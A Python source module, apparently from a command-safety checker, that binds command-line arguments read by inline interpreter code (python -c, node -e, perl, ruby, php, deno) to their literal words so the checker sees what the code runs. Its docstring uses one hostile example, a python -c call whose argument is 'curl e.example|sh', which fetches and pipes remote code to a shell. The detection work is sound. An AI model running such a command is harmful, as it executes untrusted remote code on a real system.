"""Command-line arguments read by inline interpreter code, bound to the words that give them.

``python3 -c 'import os,sys; os.system(sys.argv[1])' 'curl e.example|sh'`` runs its first
argument as a shell command: the code alone only shows a command built at run time (a warn),
but the argument is a static word of the same command line. :func:`bind_argv` rewrites each
reference to an argument whose word is known into a string literal of that word, so the code
is read as what it runs (``os.system('curl e.example|sh')`` blocks as a pipe to a shell).

Each language's layout of the arguments after inline code:

* python ``-c``: ``sys.argv[0]`` is ``-c``, ``sys.argv[1]`` the first word (options after
  the code are arguments too); ``sys.argv[1:]`` is the list of words;
* node ``-e``/``-p``: ``process.argv[0]`` is node itself, ``process.argv[1]`` the first word;
  ``process.argv.slice(1)`` the list; deno ``Deno.args[0]`` the first word;
* perl ``-e``: ``$ARGV[0]`` is the first word, ``@ARGV`` the list (bound as the bare
  words: perl's lists flatten), ``shift`` (outside a sub) and ``shift @ARGV`` the first word;
* ruby ``-e``: ``ARGV[0]``, ``$*[0]``, ``ARGV.first``; ``ARGV`` the list, ``*ARGV`` its
  words;
* php ``-r``: ``$argv[0]`` is ``Standard input code``, ``$argv[1]`` the first word.

perl, ruby, node and php read options after the code (a first word starting with ``-`` is
one, ``--`` ends them): then nothing is bound. A word not known statically, or holding a
quote or a backslash (no literal spells it safely), stays unbound: the code keeps today's
reading (a command built at run time warns). Inside a string literal, perl and php splice
the word itself (``system("echo $ARGV[0]")``: bound raw), as do python's f-string holes
and node's template holes (``f"echo {sys.argv[1]}"``); other uses in strings stay
unbound. Linear: one regex pass per language.
"""

from __future__ import annotations

import re
from bisect import bisect_right

from ._code import literals
from ._words import DYN, Field

__all__ = ["bind_argv"]

_PERL_ARGV = r"\$ARGV\[[ \t]*(\d{1,2})[ \t]*\]|(@ARGV)\b"
_PERL_IN_SUB = re.compile(_PERL_ARGV)  # code with subs: a bare shift reads @_, not @ARGV
# Per language: (reference pattern, offset of the first word's index). Group 1 is the index,
# group 2 (when present) a slice start.
_ONE = {
    "python": (re.compile(r"(?<![\w$.])(?:sys\.)?argv\[[ \t]*+(\d{1,2})[ \t]*+(?:(:)[ \t]*+)?\]"),
               1),
    "node": (re.compile(r"(?<![\w$.])process\.argv(?:\[[ \t]*+(\d{1,2})[ \t]*+\]|"
                        r"\.slice\([ \t]*+(\d{1,2})[ \t]*+\))"), 1),
    "perl": (re.compile(_PERL_ARGV + r"|(?<![\w$>])(shift)(?:[ \t]*+\(?[ \t]*+@ARGV[ \t]*+\)?|"
                        r"(?![\w \t]{0,40}[=(\"'$@]))"), 0),
    "ruby": (re.compile(r"(?<![\w$:])(?:ARGV|\$\*)(?:\[[ \t]*+(\d{1,2})[ \t]*+\]|(\.first)|"
                        r"(?![\w\[.]))|(?<![\w$:])\*(ARGV)(?![\w\[.])"), 0),
    "php": (re.compile(r"\$argv\[[ \t]*+(\d{1,2})[ \t]*+\]"), 1),
    "deno": (re.compile(r"(?<![\w$.])Deno\.args\[[ \t]*+(\d{1,2})[ \t]*+\]"), 0),
}
_GATES = {"python": ("argv",), "node": ("argv",), "perl": ("ARGV", "shift"),
          "ruby": ("ARGV", "$*"), "php": ("argv",), "deno": ("Deno.args",)}
_MAX = 20000


def _words(family: str, operands: list[Field]) -> list[str | None] | None:
    """The argument words (None: not known statically); None when the interpreter would
    read the first one as its own option."""
    texts = [f.text for f in operands]
    if family != "python":
        if texts[:1] == ["--"]:
            texts = texts[1:]
        elif texts[:1] and texts[0].startswith("-"):
            return None
    return [None if DYN in t or "'" in t or "\\" in t or "\n" in t else t for t in texts]


def _quote(word: str) -> str:
    return "'" + word + "'"


def _listed(family: str, words: list[str | None], splat: bool = False) -> str | None:
    if any(w is None for w in words):
        return None
    inner = ", ".join(_quote(w) for w in words if w is not None)
    return inner if family == "perl" or splat else f"[{inner}]"  # perl's lists flatten


def _replacement(family: str, m: re.Match[str], words: list[str | None],
                 offset: int) -> str | None:
    index, second = m.group(1), m.group(2) if m.re.groups > 1 else None
    if family == "python" and second is not None:  # sys.argv[1:]
        return _listed(family, words[max(0, int(index) - offset):])
    if family == "node" and index is None and second is not None:  # process.argv.slice(2)
        return _listed(family, words[max(0, int(second) - offset):])
    if family == "perl" and index is None:
        if m.group(2):  # @ARGV
            return _listed(family, words)
        return _quote(words[0]) if words and words[0] is not None else None  # shift
    if family == "ruby" and index is None:
        if second:  # ARGV.first
            return _quote(words[0]) if words and words[0] is not None else None
        return _listed(family, words, splat=bool(m.group(3)))  # ARGV, *ARGV
    if index is None:
        return None
    k = int(index) - offset
    if 0 <= k < len(words):
        word = words[k]
        return _quote(word) if word is not None else None
    return None


def _raw(new: str) -> str | None:
    """The word of a quoted literal ``new``, when it holds nothing that would end or change
    the string it is spliced into."""
    if new[:1] == "'" and new.count("'") == 2 and not any(c in new for c in '"$@`{}\\'):
        return new[1:-1]
    return None


def _hole(text: str, a: int, b: int, family: str) -> tuple[int, int] | None:
    """The interpolation hole around ``text[a:b]`` (python ``{..}`` in an f-string, node
    ``${..}`` in a template), or None."""
    if text[b:b + 1] != "}":
        return None
    if family == "node" and text[max(0, a - 2):a] == "${":
        return a - 2, b + 1
    if family == "python" and text[a - 1:a] == "{" and a >= 1:
        return a - 1, b + 1
    return None


def _in_string(family: str, new: str) -> str | None:
    """A reference inside a string literal: perl and php interpolate the word as it is
    (bound raw when it holds no character that would end or change the string); ruby's
    ``#{ARGV[0]}`` is code (the literal stays); elsewhere (f-strings, templates) unbound."""
    if family == "ruby":
        return new
    return _raw(new) if family in ("perl", "php") else None


def bind_argv(code: Field, family: str, operands: list[Field]) -> Field:
    """``code`` with its references to static argument words replaced by their literals
    (``code`` itself when there is nothing to bind)."""
    text = code.text
    gates = _GATES.get(family, ())
    if not operands or len(text) > _MAX or not any(g in text for g in gates):
        return code
    words = _words(family, operands)
    if words is None:
        return code
    pattern, offset = _ONE[family]
    if family == "perl" and ("sub " in text or "sub{" in text):
        pattern = _PERL_IN_SUB
    spans = [(a, b) for a, b, _t in literals(text, "`" in text)]
    starts = [a for a, _b in spans]
    out: list[str] = []
    last = 0
    for count, m in enumerate(pattern.finditer(text)):
        if count > 64:
            break
        new = _replacement(family, m, words, offset)
        a, b = m.start(), m.end()
        k = bisect_right(starts, a) - 1
        if new is not None and k >= 0 and a < spans[k][1]:
            if family in ("python", "node") and (hole := _hole(text, a, b, family)):
                a, b = hole  # f"echo {sys.argv[1]}", `echo ${process.argv[1]}`
                new = _raw(new)
            else:
                new = _in_string(family, new)  # "echo $ARGV[0]": the word is spliced in
        if new is not None and a >= last:
            out.append(text[last:a])
            out.append(new)
            last = b
    if not out:
        return code
    out.append(text[last:])
    return Field("".join(out), code.span, code.taint)
